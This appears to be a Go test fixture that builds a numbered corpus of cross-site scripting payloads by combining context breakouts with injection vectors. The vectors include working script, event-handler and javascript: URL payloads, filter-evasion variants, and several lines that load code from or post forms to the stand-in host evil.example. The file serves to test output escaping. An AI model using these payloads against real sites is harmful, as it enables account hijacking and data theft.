//go:build !postgres

package app_test

import (
	"fmt"
	"strings"
	"sync/atomic"
)

// breakouts end what a text may stand in: an attribute, an element, a script, a
// comment, a string.
var breakouts = []string{
	"", `">`, `'>`, "`>", `" `, `' `, `\"`, `\';`, `</textarea>`, `</title>`, `</script>`, `</style>`, `-->`, `]]>`, `</option></select>`, `</svg>`, `</td></tr></table>`, `</h1>`, `</a>`, `</dialog>`, `</label>`, `</nav>`, "\u2028", "\u202e", "\ufeff",
}

// vectors run, style or load something wherever they are taken for markup.
var vectors = []string{
	`<script>xss7()</script>`, `"><script src=//evil.example/xss7></script>`, `'><img src=x onerror=xss7()>`, `<svg/onload=xss7()>`,
	`" onmouseover="xss7()" x="`, `' autofocus onfocus=xss7() '`, "`onclick=xss7()`", `javascript:xss7()`, `</textarea><script>xss7()</script>`,
	`</title><script>xss7()</script>`, `</option></select><img src=x onerror=xss7()>`, `<iframe srcdoc="<script>xss7()</script>">`,
	`<a href="javascript:xss7()">点</a>`, `<style>@import '//evil.example/xss7'</style>`, `<base href="//evil.example/xss7/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:xss7()">`, `<form action="//evil.example/xss7"><input name=a>`,
	`<object data="data:text/html,<script>xss7()</script>">`, `<math><mi xlink:href="javascript:xss7()">`, `{{constructor.constructor('xss7()')()}}`,
	`<img src=1 href=1 onerror="xss7()">`, `&lt;script&gt;xss7()&lt;/script&gt;`, `<!--><script>xss7()</script>-->`, `]]><script>xss7()</script>`,
	`<scr<script>ipt>xss7()</script>`, "<script\x0c>xss7()</script>", `＜script＞xss7()＜/script＞`, `<details open ontoggle=xss7()>`,
	`<div hx-get="//evil.example/xss7" hx-trigger="load">`, `<x style="background:url(//evil.example/xss7)">`, `<link rel=stylesheet href=//evil.example/xss7>`,
}

// payloads are every breakout before every vector, each with a number of its own,
// by which a call tells where it came from.
var payloads = func() (list []string) {
	for _, b := range breakouts {
		for _, v := range vectors {
			list = append(list, strings.ReplaceAll(b+v, "xss7()", fmt.Sprintf("xss7(%d)", len(list)+1)))
		}
	}
	return list
}()

var handed atomic.Int64

// next is n payloads that were not handed out yet, until all were.
func (town) next(n int) string {
	var s strings.Builder
	for range n {
		s.WriteString(payloads[int(handed.Add(1))%len(payloads)])
	}
	return s.String()
}
